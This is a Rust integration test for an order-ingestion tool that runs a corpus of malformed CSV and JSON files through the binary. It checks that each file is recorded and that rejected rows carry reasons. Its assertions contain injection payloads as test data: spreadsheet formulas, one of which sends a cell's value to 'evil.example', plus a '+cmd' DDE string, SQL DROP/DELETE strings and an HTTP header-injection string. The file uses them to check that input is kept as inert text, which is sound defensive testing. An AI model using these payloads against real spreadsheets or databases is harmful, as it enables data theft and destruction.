//! The bad-input corpus (`tests/corpus/`, one folder per channel) ingested in one run through
//! the real binary: no panic, every file accounted for, every rejected row with a reason, the
//! good files still staged, and a specific expectation per file. RELIABILITY.md has the table.

use crate::common::*;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

/// Size of the generated oversized field (never committed).
const HUGE_FIELD: usize = 10 * 1024 * 1024;

const SHOPIFY_HEADER: &str = "Name,Email,Financial Status,Paid at,Currency,Subtotal,Shipping,Taxes,Total,Created at,Lineitem quantity,Lineitem name,Lineitem price,Lineitem sku,Billing Name,Shipping Name,Shipping Address1,Shipping City,Shipping Zip,Shipping Country,Notes";

fn shopify_row(name: &str, notes: &str) -> String {
    format!("{name},ann@example.com,paid,2025-03-01 10:00:00 +0100,USD,10.00,5.00,0.00,15.00,2025-03-01 10:00:00 +0100,1,Tee,10.00,SKU-1,Ann Buyer,Ann Buyer,1 Main St,Springfield,02134,US,{notes}\n")
}

fn corpus() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus")
}

/// Every committed corpus file, as `folder/name`.
pub fn corpus_files() -> Vec<String> {
    let mut out = Vec::new();
    for dir in std::fs::read_dir(corpus()).unwrap() {
        let dir = dir.unwrap().path();
        if !dir.is_dir() {
            continue;
        }
        for f in std::fs::read_dir(&dir).unwrap() {
            let f = f.unwrap().path();
            out.push(format!(
                "{}/{}",
                dir.file_name().unwrap().to_str().unwrap(),
                f.file_name().unwrap().to_str().unwrap()
            ));
        }
    }
    out.sort();
    out
}

fn set_old(path: &Path) {
    let an_hour_ago = SystemTime::now() - Duration::from_secs(3600);
    std::fs::File::options()
        .write(true)
        .open(path)
        .unwrap()
        .set_modified(an_hour_ago)
        .unwrap();
}

/// Copy the corpus into per-channel inboxes, add the generated files, configure the channels.
fn corpus_workspace() -> Workspace {
    let ws = Workspace::new();
    for rel in corpus_files() {
        let to = ws.path().join("inbox").join(&rel);
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::copy(corpus().join(&rel), &to).unwrap();
        set_old(&to);
    }
    // A 10 MB quoted field (generated, never committed), then a normal order after it.
    let mut huge = String::with_capacity(HUGE_FIELD + 1000);
    huge.push_str(SHOPIFY_HEADER);
    huge.push('\n');
    huge.push_str(&shopify_row(
        "#HUGE100",
        &format!("\"{}\"", "x".repeat(HUGE_FIELD)),
    ));
    huge.push_str(&shopify_row("#HUGE101", "after the huge field"));
    let p = ws.write_file("inbox/shopify/06-huge-field.csv", &huge);
    set_old(&p);
    // A file still being written: half a row, modified just now.
    let partial = format!(
        "{SHOPIFY_HEADER}\n{}#WIP101,ann@exa",
        shopify_row("#WIP100", "")
    );
    ws.write_file("inbox/shopify/zz-still-being-written.csv", &partial);

    let mapping = std::fs::read_to_string(sample("csv/mapping.toml")).unwrap();
    let inbox = ws.path().join("inbox");
    let inbox = inbox.display();
    ws.write_config(
        None,
        &format!(
            "[[channel]]\nname = \"shopify\"\nformat = \"shopify\"\ninbox = \"{inbox}/shopify\"\n\
             [[channel]]\nname = \"amazon\"\nformat = \"amazon\"\ninbox = \"{inbox}/amazon\"\n\
             [[channel]]\nname = \"woo\"\nformat = \"woocommerce\"\ntime_zone = \"Europe/Berlin\"\ninbox = \"{inbox}/woocommerce\"\n\
             [[channel]]\nname = \"detect\"\ninbox = \"{inbox}/detect\"\n\
             [[channel]]\nname = \"mapped\"\nformat = \"csv\"\ncurrency = \"GBP\"\ninbox = \"{inbox}/mapped\"\n[channel.mapping]\n{mapping}"
        ),
    );
    ws.edit_config("settle_secs = 0", "settle_secs = 60");
    ws
}

/// (file, status, rows, rejected rows, reason codes of its rejected rows).
const EXPECTED: &[(&str, &str, i64, i64, &[&str])] = &[
    ("shopify/01-empty.csv", "rejected", 0, 0, &[]),
    ("shopify/02-header-only.csv", "ingested", 0, 0, &[]),
    (
        "shopify/03-binary-garbage.csv",
        "rejected",
        3,
        3,
        &["not_text"],
    ),
    // The record cut inside its quoted field is rejected; the rows before it are staged.
    (
        "shopify/04-truncated-in-quoted-field.csv",
        "ingested",
        3,
        1,
        &["unterminated_quote"],
    ),
    (
        "shopify/05-ragged-rows.csv",
        "ingested",
        4,
        2,
        &["missing_value", "ragged_row"],
    ),
    ("shopify/06-huge-field.csv", "ingested", 2, 0, &[]),
    (
        "shopify/07-wrong-delimiter.csv",
        "rejected",
        2,
        2,
        &["invalid_file"],
    ),
    ("shopify/08-windows-1252.csv", "ingested", 2, 0, &[]),
    ("shopify/09-mojibake.csv", "ingested", 1, 0, &[]),
    ("shopify/10-bom.csv", "ingested", 2, 0, &[]),
    ("shopify/12-same-order-first.csv", "ingested", 2, 0, &[]),
    ("shopify/13-same-order-again.csv", "ingested", 3, 0, &[]),
    (
        "shopify/14-negative-quantity.csv",
        "ingested",
        2,
        1,
        &["bad_quantity"],
    ),
    (
        "shopify/15-absurd-quantity.csv",
        "ingested",
        3,
        1,
        &["bad_quantity"],
    ),
    (
        "shopify/16-unknown-currency.csv",
        "ingested",
        3,
        1,
        &["unknown_currency"],
    ),
    ("shopify/17-formula-cells.csv", "ingested", 1, 0, &[]),
    ("shopify/18-crlf.csv", "ingested", 2, 0, &[]),
    ("shopify/19-no-final-newline.csv", "ingested", 2, 0, &[]),
    (
        "shopify/20-blank-lines-before-header.csv",
        "ingested",
        1,
        0,
        &[],
    ),
    (
        "shopify/21-bad-money.csv",
        "ingested",
        5,
        4,
        &["bad_decimal"],
    ),
    ("shopify/22-bad-dates.csv", "ingested", 4, 3, &["bad_date"]),
    ("shopify/23-date-without-zone.csv", "ingested", 1, 0, &[]),
    (
        "shopify/24-sql-and-header-injection.csv",
        "ingested",
        1,
        0,
        &[],
    ),
    ("shopify/25-utf16.csv", "rejected", 3, 3, &["not_text"]),
    (
        "shopify/26-gzip-named-csv.csv",
        "rejected",
        1,
        1,
        &["not_text"],
    ),
    (
        "shopify/27-only-blank-lines.csv",
        "rejected",
        2,
        2,
        &["empty_file"],
    ),
    ("shopify/28-nul-byte.csv", "rejected", 3, 3, &["not_text"]),
    (
        "shopify/29-continuation-row-first.csv",
        "ingested",
        2,
        1,
        &["missing_value"],
    ),
    ("shopify/30-quotes-and-multiline.csv", "ingested", 1, 0, &[]),
    (
        "shopify/31-zero-and-empty-quantity.csv",
        "ingested",
        3,
        2,
        &["bad_quantity", "missing_value"],
    ),
    ("shopify/32-long-values.csv", "ingested", 2, 0, &[]),
    (
        "amazon/a1-good-crlf-no-final-newline.txt",
        "ingested",
        2,
        0,
        &[],
    ),
    ("amazon/a2-ragged.txt", "ingested", 3, 1, &["ragged_row"]),
    (
        "amazon/a3-comma-delimited.txt",
        "ingested",
        1,
        1,
        &["missing_value"],
    ),
    (
        "amazon/a4-currency-mismatch.txt",
        "ingested",
        2,
        2,
        &["currency_mismatch"],
    ),
    (
        "amazon/a5-negative-and-huge-quantity.txt",
        "ingested",
        3,
        2,
        &["bad_quantity"],
    ),
    ("amazon/a6-date-without-zone.txt", "ingested", 1, 0, &[]),
    (
        "detect/d1-unrecognized-header.csv",
        "rejected",
        2,
        2,
        &["unrecognized_format"],
    ),
    (
        "detect/d2-ebay-export.csv",
        "rejected",
        2,
        2,
        // Detected as eBay, but the header lacks the columns an order needs.
        &["invalid_file"],
    ),
    ("detect/d3-shopify-detected.csv", "ingested", 1, 0, &[]),
    (
        "detect/d4-xlsx-renamed.csv",
        "rejected",
        2,
        2,
        &["not_text"],
    ),
    ("woocommerce/w1-good.csv", "ingested", 2, 0, &[]),
    (
        "woocommerce/w2-semicolon-decimal-comma.csv",
        "ingested",
        1,
        0,
        &[],
    ),
    (
        "woocommerce/w3-truncated.json",
        "ingested",
        1,
        1,
        &["bad_json"],
    ),
    (
        "woocommerce/w4-not-an-array.json",
        "ingested",
        1,
        1,
        &["missing_value"],
    ),
    ("woocommerce/w5-empty-array.json", "ingested", 0, 0, &[]),
    (
        "woocommerce/w6-wrong-types.json",
        "ingested",
        2,
        2,
        &["bad_quantity", "unknown_currency"],
    ),
    ("woocommerce/w7-good.json", "ingested", 2, 0, &[]),
    (
        "woocommerce/w8-garbage-json.json",
        "ingested",
        1,
        1,
        &["bad_json"],
    ),
    ("mapped/m1-good.csv", "ingested", 2, 0, &[]),
    (
        "mapped/m2-missing-mapped-column.csv",
        "rejected",
        2,
        2,
        &["invalid_file"],
    ),
    (
        "mapped/m3-bad-values.csv",
        "ingested",
        5,
        3,
        &["bad_decimal", "bad_quantity", "unknown_currency"],
    ),
    ("mapped/m4-tab-delimited.tsv", "ingested", 1, 0, &[]),
];

/// Reasons that concern a single cell: the rejected row must name its column.
const CELL_REASONS: &[&str] = &[
    "bad_decimal",
    "bad_quantity",
    "bad_date",
    "unknown_currency",
    "missing_value",
    "currency_mismatch",
];

/// Reasons for which the whole file was refused: the message names the file and the line.
const FILE_REASONS: &[&str] = &[
    "not_text",
    "empty_file",
    "invalid_file",
    "unrecognized_format",
];

fn payload(ws: &Workspace, channel: &str, external_id: &str) -> Value {
    let conn = rusqlite::Connection::open(ws.db_path()).unwrap();
    let text: String = conn
        .query_row(
            "SELECT payload FROM staged_orders WHERE channel = ?1 AND external_id = ?2",
            [channel, external_id],
            |r| r.get(0),
        )
        .unwrap_or_else(|e| panic!("{channel}:{external_id} not staged: {e}"));
    serde_json::from_str(&text).unwrap()
}

#[test]
fn the_whole_corpus_in_one_run_is_accounted_for_file_by_file() {
    let files = corpus_files();
    assert!(files.len() >= 30, "the corpus has {} files", files.len());
    let ws = corpus_workspace();
    let out = ws.run(&["ingest"]);
    // Some rows were rejected: 3. Never a panic (101) and never "could not run".
    assert_code(&out, 3);
    assert!(!stderr(&out).contains("panicked"), "{}", stderr(&out));
    let summary = stdout(&out);

    let conn = rusqlite::Connection::open(ws.db_path()).unwrap();
    // Every committed file plus the generated huge one has a row, except the byte-identical
    // duplicate and the file still being written.
    let recorded = ws.query_i64("SELECT COUNT(*) FROM source_files");
    assert_eq!(recorded as usize, files.len() + 1 - 1, "{summary}");
    assert_eq!(
        EXPECTED.len() as i64,
        recorded,
        "every recorded file has an expectation"
    );
    assert_eq!(
        ws.query_i64("SELECT COUNT(*) FROM source_files WHERE rows != rows_staged + rejected"),
        0
    );
    assert_eq!(ws.query_i64("SELECT COUNT(*) FROM source_files f WHERE rejected != (SELECT COUNT(*) FROM rejected_rows r WHERE r.source_file_id = f.id)"), 0);

    let mut mismatches = Vec::new();
    for (rel, status, rows, rejected, reasons) in EXPECTED {
        let path = ws.path().join("inbox").join(rel).display().to_string();
        let (got_status, got_rows, got_rejected, error_code): (String, i64, i64, Option<String>) =
            conn.query_row(
                "SELECT status, rows, rejected, error_code FROM source_files WHERE path = ?1",
                [&path],
                |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?)),
            )
            .unwrap_or_else(|e| panic!("{rel}: no source_files row: {e}"));
        if (got_status.as_str(), got_rows, got_rejected) != (*status, *rows, *rejected) {
            mismatches.push(format!(
                "{rel}: got ({got_status}, {got_rows}, {got_rejected}), expected ({status}, {rows}, {rejected})"
            ));
        }
        let mut got_reasons: Vec<String> = conn
            .prepare("SELECT DISTINCT reason_code FROM rejected_rows r JOIN source_files f ON f.id = r.source_file_id WHERE f.path = ?1 ORDER BY 1")
            .unwrap()
            .query_map([&path], |r| r.get(0))
            .unwrap()
            .map(|r| r.unwrap())
            .collect();
        got_reasons.sort();
        let want: Vec<String> = reasons.iter().map(|s| s.to_string()).collect();
        if got_reasons != want {
            mismatches.push(format!("{rel}: reasons {got_reasons:?}, expected {want:?}"));
        }
        if *status == "rejected" {
            let code = error_code.unwrap_or_default();
            assert!(
                FILE_REASONS.contains(&code.as_str()),
                "{rel}: file error code {code:?}"
            );
        }
    }

    assert!(
        mismatches.is_empty(),
        "corpus expectations:\n{}",
        mismatches.join("\n")
    );

    // Every rejected row: a reason, a message, its row number; a cell problem names its
    // column (in the row and in the message); a refused file's rows name the file and line.
    let mut stmt = conn
        .prepare("SELECT f.path, r.row_number, COALESCE(r.column_name, ''), r.reason_code, r.message, r.raw FROM rejected_rows r JOIN source_files f ON f.id = r.source_file_id")
        .unwrap();
    let rejected: Vec<(String, i64, String, String, String, String)> = stmt
        .query_map([], |r| {
            Ok((
                r.get(0)?,
                r.get(1)?,
                r.get(2)?,
                r.get(3)?,
                r.get(4)?,
                r.get(5)?,
            ))
        })
        .unwrap()
        .map(|r| r.unwrap())
        .collect();
    assert_eq!(
        rejected.len() as i64,
        ws.query_i64("SELECT SUM(rejected) FROM source_files")
    );
    for (path, row, column, reason, message, raw) in &rejected {
        let what = format!("{path} row {row}: {reason}: {message}");
        assert!(*row >= 1, "{what}");
        assert!(!reason.is_empty() && !message.is_empty(), "{what}");
        assert!(!raw.is_empty(), "the raw row is kept: {what}");
        if CELL_REASONS.contains(&reason.as_str()) {
            assert!(!column.is_empty(), "no column: {what}");
            assert!(
                message.contains(column.as_str()) || message.contains("order "),
                "message does not name the column: {what}"
            );
        }
        if FILE_REASONS.contains(&reason.as_str()) {
            assert!(
                message.contains(path.as_str()) && message.contains(&format!("line {row}")),
                "{what}"
            );
        }
    }

    // The duplicate file is reported as such and stages nothing.
    let dup_line = summary
        .lines()
        .find(|l| l.contains("11-duplicate-of-10.csv"))
        .unwrap_or_default();
    assert!(dup_line.contains("duplicate"), "{summary}");
    assert!(summary.contains("duplicates: 1"), "{summary}");
    // The file still being written is left alone for a later run.
    assert!(!summary.contains("zz-still-being-written"), "{summary}");
    assert_eq!(
        ws.query_i64("SELECT COUNT(*) FROM staged_orders WHERE external_id LIKE '#WIP%'"),
        0
    );

    // Good files among the bad are staged in full.
    for (channel, id) in [
        ("shopify", "#B100"),
        ("shopify", "#L101"),
        ("shopify", "#E101"),
        ("shopify", "#H100"),
        ("amazon", "111-0000001-0000002"),
        ("detect", "#DT100"),
        ("woo", "9001"),
        ("woo", "9201"),
        ("mapped", "MP-9001"),
        ("mapped", "MP-9009"),
        ("shopify", "#HUGE101"),
    ] {
        payload(&ws, channel, id);
    }
    // Per-file expectations.
    let enc = |rel: &str| {
        ws.query_strings(&format!(
            "SELECT encoding || '|' || notes FROM source_files WHERE path LIKE '%{rel}'"
        ))[0]
            .clone()
    };
    assert!(
        enc("08-windows-1252.csv").starts_with("windows-1252|"),
        "{}",
        enc("08-windows-1252.csv")
    );
    assert_eq!(
        payload(&ws, "shopify", "#C101")["shipping"]["city"],
        "Montréal"
    );
    assert_eq!(
        payload(&ws, "shopify", "#C100")["customer"]["name"],
        "Jürgen Weiß"
    );
    assert!(
        enc("09-mojibake.csv").contains("mojibake suspected"),
        "{}",
        enc("09-mojibake.csv")
    );
    assert_eq!(
        payload(&ws, "shopify", "#M100")["shipping"]["city"],
        "MontrÃ©al",
        "reported, never 'fixed'"
    );
    assert!(
        enc("10-bom.csv").contains("byte order mark"),
        "{}",
        enc("10-bom.csv")
    );
    assert_eq!(
        payload(&ws, "shopify", "#B100")["external_id"],
        "#B100",
        "no BOM in the first cell"
    );
    // The same orders in two files: one row per order; a changed one updated, the rest kept.
    assert_eq!(
        ws.query_i64("SELECT COUNT(*) FROM staged_orders WHERE external_id LIKE '#D1%'"),
        3
    );
    assert_eq!(
        ws.query_i64(
            "SELECT orders_updated FROM source_files WHERE path LIKE '%13-same-order-again.csv'"
        ),
        1
    );
    assert_eq!(
        ws.query_i64(
            "SELECT orders_unchanged FROM source_files WHERE path LIKE '%13-same-order-again.csv'"
        ),
        1
    );
    assert_eq!(
        payload(&ws, "shopify", "#D101")["lines"][0]["unit_price"],
        "12.00"
    );
    // Formulas stay inert text, exactly as written.
    let f = payload(&ws, "shopify", "#F100");
    assert_eq!(
        f["notes"],
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
    );
    assert_eq!(f["customer"]["name"], "+cmd|' /C calc'!A0");
    assert_eq!(f["shipping"]["city"], "@SUM(1+1)");
    assert_eq!(f["lines"][0]["sku"], "-2+3");
    assert_eq!(
        payload(&ws, "woo", "9002")["notes"],
        "=HYPERLINK(\"http://evil.example\",\"click\")"
    );
    assert_eq!(
        payload(&ws, "mapped", "MP-9002")["lines"][0]["name"],
        "=1+1"
    );
    // CRLF: line ends are not part of the values; a CRLF inside a quoted field is kept.
    let l = payload(&ws, "shopify", "#L100");
    assert_eq!(l["notes"], "line one\r\nline two");
    assert_eq!(
        payload(&ws, "shopify", "#L101")["shipping"]["country"],
        "US"
    );
    assert_eq!(
        payload(&ws, "amazon", "111-0000001-0000002")["shipping"]["country"],
        "US"
    );
    assert_eq!(
        payload(&ws, "shopify", "#J100")["lines"][0]["name"],
        "Mug \"Coffee, First\""
    );
    // Dates without a zone are read in the channel's zone (UTC by default); the text is kept.
    let y = payload(&ws, "shopify", "#Y100");
    assert_eq!(
        (y["created_at"].as_str(), y["created_at_original"].as_str()),
        (Some("2025-03-01T10:00:00Z"), Some("2025-03-01 10:00:00"))
    );
    assert_eq!(
        payload(&ws, "woo", "9001")["created_at"],
        "2025-12-30T08:12:00Z",
        "Europe/Berlin"
    );
    // Decimal commas with ';' (Excel, German locale).
    assert_eq!(
        payload(&ws, "woo", "9003")["lines"][0]["unit_price"],
        "10.50"
    );
    // SQL and header injection: staged intact, tables intact.
    let q = payload(&ws, "shopify", "#Q100'); DROP TABLE staged_orders;--");
    assert_eq!(
        q["customer"]["name"],
        "Robert'); DROP TABLE staged_orders;--"
    );
    assert_eq!(q["notes"], "X\r\nHost: evil.example\r\n\r\nGET / HTTP/1.1");
    assert_eq!(
        q["shipping"]["city"],
        "Springfield\"; DELETE FROM ledger; --"
    );
    assert!(ws.query_i64("SELECT COUNT(*) FROM ledger") > 0);
    // The 10 MB field is kept whole (and the order after it is read).
    let conn2 = rusqlite::Connection::open(ws.db_path()).unwrap();
    let huge_len: i64 = conn2
        .query_row("SELECT length(json_extract(payload, '$.notes')) FROM staged_orders WHERE external_id = '#HUGE100'", [], |r| r.get(0))
        .unwrap();
    assert_eq!(huge_len as usize, HUGE_FIELD);
    assert_eq!(
        payload(&ws, "shopify", "#HUGE101")["notes"],
        "after the huge field"
    );
    // Reconciliation over the whole database balances.
    let report = ws.run(&["report", "--format", "json"]);
    assert_code(&report, 0);
    let v: Value = serde_json::from_str(&stdout(&report)).unwrap();
    assert_eq!(
        v["reconciliation"]["balanced"], true,
        "{}",
        v["reconciliation"]
    );
    assert_eq!(v["rejected_rows"].as_i64().unwrap(), rejected.len() as i64);

    // The half-written file is finished and settles: the next run reads it, and only it (the
    // others are byte-identical re-reads: duplicates).
    let done = format!(
        "{SHOPIFY_HEADER}\n{}{}",
        shopify_row("#WIP100", ""),
        shopify_row("#WIP101", "")
    );
    let p = ws.write_file("inbox/shopify/zz-still-being-written.csv", &done);
    set_old(&p);
    let again = ws.run(&["ingest"]);
    assert_code(&again, 0);
    assert_eq!(
        ws.query_i64("SELECT COUNT(*) FROM source_files"),
        recorded + 1
    );
    assert_eq!(
        ws.query_i64("SELECT COUNT(*) FROM staged_orders WHERE external_id LIKE '#WIP%'"),
        2
    );
    eprintln!(
        "bad-input figures: files={} (+2 generated) recorded={} rejected_rows={} staged_orders={}",
        files.len(),
        recorded,
        rejected.len(),
        ws.query_i64("SELECT COUNT(*) FROM staged_orders")
    );
}

#[test]
fn a_file_truncated_inside_a_quoted_field_rejects_the_unterminated_record() {
    let ws = Workspace::new();
    ws.write_config(None, "[[channel]]\nname = \"shop\"\nformat = \"shopify\"\n");
    let file = corpus().join("shopify/04-truncated-in-quoted-field.csv");
    let out = ws.run(&["ingest", "--channel", "shop", file.to_str().unwrap()]);
    assert_code(&out, 3);
    assert_eq!(
        ws.query_i64("SELECT COUNT(*) FROM staged_orders"),
        2,
        "#T100 and #T101 only"
    );
    let r = ws.query_strings("SELECT row_number || '|' || COALESCE(column_name, '') || '|' || reason_code FROM rejected_rows");
    assert_eq!(r.len(), 1, "{r:?}");
    assert!(r[0].starts_with("3|Notes|"), "{r:?}");
}

#[test]
fn a_row_with_more_cells_than_the_header_is_rejected_not_trimmed() {
    let ws = Workspace::new();
    ws.write_config(None, "[[channel]]\nname = \"shop\"\nformat = \"shopify\"\n");
    let file = corpus().join("shopify/05-ragged-rows.csv");
    let out = ws.run(&["ingest", "--channel", "shop", file.to_str().unwrap()]);
    assert_code(&out, 3);
    // Row 3 (#R102) has three extra non-empty cells: data that cannot be placed.
    assert_eq!(
        ws.query_i64("SELECT COUNT(*) FROM staged_orders WHERE external_id = '#R102'"),
        0
    );
    assert_eq!(ws.query_i64("SELECT COUNT(*) FROM rejected_rows WHERE row_number = 3 AND reason_code = 'ragged_row'"), 1);
}
